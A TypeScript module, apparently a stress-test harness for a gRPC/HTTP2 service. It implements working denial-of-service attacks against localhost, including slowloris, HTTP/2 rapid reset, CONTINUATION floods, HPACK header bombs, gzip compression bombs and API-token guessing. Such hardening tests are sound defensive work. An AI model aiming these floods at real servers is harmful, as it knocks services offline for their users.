/** What attackers do, on plain sockets: no client library would. Each goes on until its process is ended. */
import { gzipSync } from "node:zlib";
import { connect, type Socket } from "node:net";
import {
  FLAG,
  frame,
  literal,
  literals,
  NEWEST_REMEMBERED,
  PREFACE,
  remembered,
  SETTING,
  settings,
  SETTINGS_ACK,
  TYPE,
  uint32,
} from "./http2-frames.js";

/** Who is attacked, and the tokens of an attacker who stole them. */
export interface Target {
  readonly port: number;
  readonly adminToken: string;
  readonly runtimeToken: string;
  /** Where a document of 15 MiB is, with the admin token. */
  readonly largePath: string;
}

const PUBLISH = "/signet.v1.BundleService/PublishBundle";
const WATCH = "/signet.v1.RuntimeService/WatchBundle";
const CANCEL = 8;
const MIB = 1024 * 1024;
const GET_HEALTH = { ":method": "GET", ":scheme": "http", ":path": "/healthz", ":authority": "x" };

const GRPC = { "content-type": "application/grpc", te: "trailers" };

const repeated = (count: number, bytes: Uint8Array) => Buffer.concat(Array<Uint8Array>(count).fill(bytes));
const get = (stream: number, fields = literals(GET_HEALTH)) =>
  frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, fields);
const rpc = (path: string, token: string, more: Readonly<Record<string, string>> = {}) =>
  literals({
    ...{ ":method": "POST", ":scheme": "http", ":path": path, ":authority": "x" },
    ...{ ...GRPC, "x-api-key": token, ...more },
  });

/** Keeps so many connections open. `speak` is called for each new one; what it returns ends with the connection. */
function keepOpen(port: number, count: number, speak: (socket: Socket) => NodeJS.Timeout | undefined): void {
  const open = () => {
    const socket = connect({ port, host: "127.0.0.1", noDelay: true });
    let timer: NodeJS.Timeout | undefined;
    socket.on("connect", () => (timer = speak(socket)));
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearInterval(timer);
      setTimeout(open, 5);
    });
  };
  for (let each = 0; each < count; each += 1) open();
}

/** Says something, then one thing after the other as fast as it is taken. `isRead`: whether answers are. */
function flood(port: number, count: number, first: Uint8Array, next: () => Uint8Array, isRead = true): void {
  keepOpen(port, count, (socket) => {
    if (isRead) socket.resume();
    else socket.pause();
    socket.write(first);
    const more = () => {
      while (!socket.destroyed && socket.write(next()));
    };
    socket.on("drain", () => setImmediate(more));
    more();
    return undefined;
  });
}

/** Streams that go on counting from connection to connection would be refused: each connection counts for itself. */
function floodStreams(port: number, count: number, first: Buffer, next: (stream: number) => Uint8Array): void {
  keepOpen(port, count, (socket) => {
    socket.resume();
    socket.write(Buffer.concat([PREFACE, settings(), SETTINGS_ACK, first]));
    let stream = first.length === 0 ? 1 : 3;
    const more = () => {
      while (!socket.destroyed && socket.write(next(stream))) stream += 2;
      stream += 2;
    };
    socket.on("drain", () => setImmediate(more));
    more();
    return undefined;
  });
}

const drip = (socket: Socket, bytes: string) => setInterval(() => socket.write(bytes), 1_000);

export const ATTACKS = {
  "idle sockets": ({ port }: Target) => keepOpen(port, 12_000, () => undefined),
  "slow headers": ({ port }: Target) =>
    keepOpen(port, 3_000, (socket) => {
      socket.write("GET /healthz HTTP/1.1\r\nHost: x\r\n");
      return drip(socket, "X: y\r\n");
    }),
  "slow bodies with a token": ({ port, adminToken }: Target) =>
    keepOpen(port, 200, (socket) => {
      const head = ["Content-Type: application/json", `X-API-Key: ${adminToken}`, `Content-Length: ${16 * MIB}`];
      socket.write(
        [`POST ${PUBLISH} HTTP/1.1`, "Host: x", ...head, "", `{"title":"${"x".repeat(4 * MIB)}`].join("\r\n"),
      );
      return drip(socket, "x");
    }),
  "streams that grant no window": ({ port }: Target) =>
    keepOpen(port, 200, (socket) => {
      socket.write(Buffer.concat([PREFACE, settings(SETTING.initialWindowSize, 0)]));
      socket.write(Buffer.concat(Array.from({ length: 250 }, (_, index) => get(1 + 2 * index))));
      return undefined;
    }),
  "watches that are not read": ({ port, runtimeToken }: Target) =>
    keepOpen(port, 100, (socket) => {
      socket.write(Buffer.concat([PREFACE, settings(SETTING.initialWindowSize, 0)]));
      for (let stream = 1; stream < 200; stream += 2) {
        socket.write(frame(TYPE.headers, FLAG.endHeaders, stream, rpc(WATCH, runtimeToken)));
        socket.write(frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5)));
      }
      return undefined;
    }),
  "rapid reset": ({ port }: Target) =>
    floodStreams(port, 20, Buffer.alloc(0), (stream) =>
      Buffer.concat([get(stream), frame(TYPE.rstStream, 0, stream, uint32(CANCEL))]),
    ),
  "watches that are cancelled together": ({ port, runtimeToken }: Target) =>
    keepOpen(port, 4, (socket) => {
      socket.resume();
      socket.write(Buffer.concat([PREFACE, settings(), SETTINGS_ACK]));
      const fields = rpc(WATCH, runtimeToken);
      let next = 1;
      return setInterval(() => {
        const ids = Array.from({ length: 250 }, (_, index) => next + 2 * index);
        next += 500;
        for (const id of ids) {
          socket.write(frame(TYPE.headers, FLAG.endHeaders, id, fields));
          socket.write(frame(TYPE.data, FLAG.endStream, id, Buffer.alloc(5)));
        }
        setTimeout(() => {
          socket.write(Buffer.concat(ids.map((id) => frame(TYPE.rstStream, 0, id, uint32(CANCEL)))));
        }, 500);
      }, 1_000);
    }),
  "large answers that are sent for ahead and not read": ({ port, adminToken, largePath }: Target) =>
    keepOpen(port, 3, (socket) => {
      socket.pause();
      socket.write(`GET ${largePath} HTTP/1.1\r\nHost: x\r\nX-API-Key: ${adminToken}\r\n\r\n`.repeat(60));
      return undefined;
    }),
  "large answers over HTTP/2 without a window": ({ port, adminToken, largePath }: Target) =>
    keepOpen(port, 3, (socket) => {
      socket.resume();
      const fields = literals({ ...GET_HEALTH, ":path": largePath, "x-api-key": adminToken });
      socket.write(Buffer.concat([PREFACE, settings(SETTING.initialWindowSize, 0)]));
      socket.write(Buffer.concat(Array.from({ length: 60 }, (_, index) => get(1 + 2 * index, fields))));
      return undefined;
    }),
  "health watches from many addresses": ({ port }: Target) => {
    for (let host = 2; host < 202; host += 1) {
      const socket = connect({ port, host: "127.0.0.1", localAddress: `127.0.0.${host}` });
      socket.on("error", () => undefined).resume();
      socket.write(Buffer.concat([PREFACE, settings(), SETTINGS_ACK]));
      for (let stream = 1; stream < 32; stream += 2) {
        const fields = literals({ ...GET_HEALTH, ":method": "POST", ":path": "/grpc.health.v1.Health/Watch", ...GRPC });
        socket.write(frame(TYPE.headers, FLAG.endHeaders, stream, fields));
        socket.write(frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5)));
      }
    }
  },
  "CONTINUATION flood": ({ port }: Target) => {
    const next = repeated(100, frame(TYPE.continuation, 0, 1, literal("a", "b")));
    const begun = frame(TYPE.headers, FLAG.endStream, 1, literals(GET_HEALTH));
    flood(port, 20, Buffer.concat([PREFACE, settings(), begun]), () => next);
  },
  "header lists of 40 MB in 10 KB": ({ port }: Target) => {
    const bomb = Buffer.concat([literals(GET_HEALTH), repeated(10_000, NEWEST_REMEMBERED)]);
    const first = get(1, Buffer.concat([literals(GET_HEALTH), remembered("x-a", "y".repeat(4_000))]));
    floodStreams(port, 20, first, (stream) => get(stream, bomb));
  },
  "SETTINGS that are not read": ({ port }: Target) => {
    const next = repeated(1_000, settings(SETTING.initialWindowSize, 65_535));
    flood(port, 20, Buffer.concat([PREFACE, settings()]), () => next, false);
  },
  "PING that is not read": ({ port }: Target) => {
    const next = repeated(1_000, frame(TYPE.ping, 0, 0, Buffer.alloc(8)));
    flood(port, 20, Buffer.concat([PREFACE, settings()]), () => next, false);
  },
  "empty DATA": ({ port, adminToken }: Target) => {
    const opened = frame(TYPE.headers, FLAG.endHeaders, 1, rpc(PUBLISH, adminToken));
    const next = repeated(1_000, frame(TYPE.data, 0, 1));
    flood(port, 20, Buffer.concat([PREFACE, settings(), opened]), () => next);
  },
  "gRPC messages over the limit with a token": ({ port, adminToken }: Target) => {
    const head = Buffer.from([0, 0x7f, 0xff, 0xff, 0xff]);
    floodStreams(port, 8, Buffer.alloc(0), (stream) =>
      Buffer.concat([
        frame(TYPE.headers, FLAG.endHeaders, stream, rpc(PUBLISH, adminToken, { "content-length": String(2 ** 31) })),
        frame(TYPE.data, 0, stream, head),
      ]),
    );
  },
  "compression bombs with a token": ({ port, adminToken }: Target) => {
    const data = gzipSync(Buffer.alloc(64 * MIB));
    const head = Buffer.alloc(5);
    head[0] = 1;
    head.writeUInt32BE(data.length, 1);
    const parts = Buffer.concat([head, data]);
    const body = (stream: number) => {
      const frames = [];
      for (let at = 0; at < parts.length; at += 16_384) {
        const isLast = at + 16_384 >= parts.length;
        frames.push(frame(TYPE.data, isLast ? FLAG.endStream : 0, stream, parts.subarray(at, at + 16_384)));
      }
      return Buffer.concat(frames);
    };
    keepOpen(port, 32, (socket) => {
      socket.resume();
      socket.write(Buffer.concat([PREFACE, settings(), SETTINGS_ACK]));
      let stream = 1;
      return setInterval(() => {
        if (socket.writableLength > 0) return;
        socket.write(
          frame(TYPE.headers, FLAG.endHeaders, stream, rpc(PUBLISH, adminToken, { "grpc-encoding": "gzip" })),
        );
        socket.write(body(stream));
        socket.write(frame(TYPE.windowUpdate, 0, 0, uint32(65_535)));
        stream += 2;
      }, 100);
    });
  },
  "guessed tokens": ({ port }: Target) => {
    let guess = 0;
    keepOpen(port, 32, (socket) => {
      const ask = () => socket.write(`GET /v1/whoami HTTP/1.1\r\nHost: x\r\nX-API-Key: guess-${(guess += 1)}\r\n\r\n`);
      socket.on("data", ask);
      ask();
      return undefined;
    });
  },
} as const satisfies Readonly<Record<string, (target: Target) => void>>;

export type AttackName = keyof typeof ATTACKS;
